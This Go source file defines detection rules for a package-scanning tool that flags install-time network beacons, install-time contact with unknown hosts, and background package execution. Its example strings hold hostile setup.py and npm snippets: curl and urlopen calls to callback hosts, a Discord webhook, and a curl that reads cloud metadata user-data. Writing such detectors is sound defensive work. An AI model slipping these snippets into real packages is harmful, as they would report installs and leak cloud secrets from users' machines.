package rule

import b "taisei/detect/behaviour"

// beacon: that a package was installed, and where, is told to somebody.
func beacon() []Rule {
	return []Rule{
		{
			ID: "beacon_sent", Severity: Critical,
			When: []Condition{
				{Triggers: []string{b.Install, b.Build, b.Import}, Sources: []string{b.Host}, Sinks: []string{b.Network}, Slots: []string{"connection"}, Target: Drop, Script: No},
				{Triggers: []string{b.Command, b.Call}, Sources: []string{b.Host}, Sinks: []string{b.Network}, Slots: []string{"connection"}, Target: Listener, Script: No},
				{Triggers: []string{b.Install, b.Build}, Sources: []string{b.Host}, Sinks: []string{b.Network}, Slots: []string{"connection"}, Target: Shady, Script: No},
				{Triggers: []string{b.Import}, Sources: []string{b.Host}, Sinks: []string{b.Network}, Slots: []string{"connection"}, Target: Shady, In: ".py", Script: No},
			},
			Examples: []Example{
				Python("a request to a drop", "import urllib.request\nurllib.request.urlopen('http://k3j2.oastify.com/test')\nfrom setuptools import setup\nsetup(name='example')\n"),
				Python("by a command", "import os\nfrom setuptools import setup\nos.system('curl https://k3j2.oastify.com/test')\nsetup(name='example')\n"),
				Module("a webhook", "import requests\nrequests.post('https://discord.com/api/webhooks/1/x', json={'content': 'installed'})\n"),
				Module("a bare address", "import socket\ns = socket.socket()\ns.connect(('203.0.113.9', 8080))\n"),
				Package("a request from a script", `"scripts":{"preinstall":"node i.js"}`, map[string]string{"i.js": "require('https').get('https://x.m.pipedream.net/installed')"}),
			},
			Neighbours: []Example{
				Python("a file that is needed", "import urllib.request\nfrom setuptools import setup\nurllib.request.urlretrieve('https://files.example/model.bin', 'example/model.bin')\nsetup(name='example')\n"),
				Module("when called", "import requests\ndef notify(text):\n    requests.post('https://discord.com/api/webhooks/1/x', json={'content': text})\n"),
			},
		},
		{
			ID: "contact_at_install", Severity: Critical,
			When: []Condition{
				{Triggers: []string{b.Install, b.Build}, Sources: []string{b.Host}, Sinks: []string{b.Network}, Slots: []string{"connection"}, Target: Unknown, In: ".py", Script: No, Kept: No},
				{Triggers: []string{b.Install, b.Build}, Sources: []string{b.Host}, Sinks: []string{b.Network}, Slots: []string{"connection"}, Target: Cloud, In: ".py", Script: No},
			},
			Examples: []Example{
				Python("a request of which nothing is kept", "import urllib.request\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        urllib.request.urlopen('https://log.example/installed')\n        install.run(self)\nsetup(name='example', cmdclass={'install': I})\n"),
				Python("a cloud's secrets", "import os\nfrom setuptools import setup\nos.system('curl http://169.254.169.254/latest/user-data > x')\nsetup(name='example')\n"),
			},
			Neighbours: []Example{
				Python("a source that is built", "import urllib.request\nfrom setuptools import setup\nurllib.request.urlretrieve('https://files.example/lib-1.0.tar.gz', 'lib.tar.gz')\nsetup(name='example')\n"),
				Python("the version on a forge", "import urllib.request\nfrom setuptools import setup\nv = urllib.request.urlopen('https://api.github.com/repos/e/e/releases').read()\nsetup(name='example')\n"),
				Package("a script that reports to its makers", `"scripts":{"postinstall":"node i.js"}`, map[string]string{"i.js": "require('https').get('https://stats.example/v')"}),
			},
		},
		{
			ID: "package_started", Severity: Critical,
			When: []Condition{{Triggers: []string{b.Install, b.Build, b.Import}, Sources: []string{b.Blob}, Sinks: []string{b.Code}, Slots: []string{"module"}, Script: No}},
			Examples: []Example{
				Python("somebody else's, in the background", "import subprocess\nfrom setuptools import setup\nsubprocess.Popen(['python3', '-c', 'from samplecache import manager'])\nsetup(name='example', install_requires=['samplecache'])\n"),
			},
			Neighbours: []Example{
				Python("one that is asked for something", "import subprocess, sys\nfrom setuptools import setup\nd = subprocess.check_output([sys.executable, '-c', 'import numpy; print(numpy.get_include())'])\nsetup(name='example', include_dirs=[d])\n"),
				Python("one of the interpreter's own", "import subprocess, sys\nfrom setuptools import setup\nsubprocess.call([sys.executable, '-c', 'import ssl'])\nsetup(name='example')\n"),
			},
		},
	}
}
